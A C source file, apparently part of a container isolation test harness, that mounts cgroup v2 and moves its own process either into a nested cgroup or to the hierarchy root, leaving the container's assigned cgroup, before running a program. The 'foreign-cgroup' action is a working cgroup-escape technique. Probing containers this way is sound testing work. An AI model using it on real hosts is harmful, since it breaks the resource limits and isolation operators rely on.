/* Leaving the cgroup that the container was found by. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#define HIERARCHY "/tmp/hierarchy"

/* Mounts cgroup v2, or the hierarchy of the v1 controller `pids`, and finds our own cgroup in it. */
static void mount_hierarchy(char *own, size_t length)
{
	const char *prefix = "0::";
	char line[PATH_LENGTH];
	FILE *list;

	enter_mount_namespace();
	make_folder(HIERARCHY);
	if (mount("none", HIERARCHY, "cgroup2", 0, NULL) || access(HIERARCHY "/cgroup.procs", F_OK))
		unavailable("no cgroup v2");
	list = fopen("/proc/self/cgroup", "re");
	*own = 0;
	while (list && fgets(line, sizeof(line), list))
		if (strncmp(line, prefix, strlen(prefix)) == 0)
			snprintf(own, length, HIERARCHY "%.*s", (int)strcspn(line + 3, "\n"), line + 3);
	if (list)
		fclose(list);
	if (!*own)
		unavailable("no cgroup v2");
}

static void move_to(const char *cgroup)
{
	char path[PATH_LENGTH];
	int file;

	snprintf(path, sizeof(path), "%s/cgroup.procs", cgroup);
	file = (int)need(open(path, O_WRONLY | O_CLOEXEC), path);
	need(write(file, "0", 1), "move");
	close(file);
}

static int nested(char **arguments)
{
	char own[PATH_LENGTH - 16], child[PATH_LENGTH];

	mount_hierarchy(own, sizeof(own));
	snprintf(child, sizeof(child), "%s/nested", own);
	make_folder(child);
	move_to(child);
	return run(arguments[0]);
}

static int foreign(char **arguments)
{
	char own[PATH_LENGTH];

	mount_hierarchy(own, sizeof(own));
	move_to(HIERARCHY);
	return run(arguments[0]);
}

const struct act cgroup_acts[] = {{"nested-cgroup", 1, nested}, {"foreign-cgroup", 1, foreign}, {NULL, 0, NULL}};
